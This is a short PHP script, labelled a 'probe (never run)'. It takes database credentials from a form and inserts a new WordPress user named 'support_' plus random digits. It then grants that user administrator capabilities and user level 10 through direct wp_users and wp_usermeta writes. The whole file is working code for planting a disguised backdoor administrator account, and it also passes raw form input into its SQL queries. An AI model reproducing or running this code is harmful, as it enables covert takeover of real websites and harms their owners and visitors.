<?php
// probe (never run): database logins from the form, an administrator written into wp_users and wp_usermeta
$db = mysqli_connect($_POST['host'], $_POST['dbu'], $_POST['dbp'], $_POST['dbn']);
$pre = $_POST['prefix'];
$login = 'support_' . mt_rand(100, 999);
mysqli_query($db, "INSERT INTO {$pre}users (user_login, user_pass, user_email, user_registered, user_status, display_name) VALUES ('$login', MD5('" . $_POST['np'] . "'), 'x@example.com', NOW(), 0, '$login')");
$id = mysqli_insert_id($db);
mysqli_query($db, "INSERT INTO {$pre}usermeta (user_id, meta_key, meta_value) VALUES ($id, '{$pre}capabilities', 'a:1:{s:13:\"administrator\";s:1:\"1\";}')");
mysqli_query($db, "INSERT INTO {$pre}usermeta (user_id, meta_key, meta_value) VALUES ($id, '{$pre}user_level', '10')");
echo "$login created";
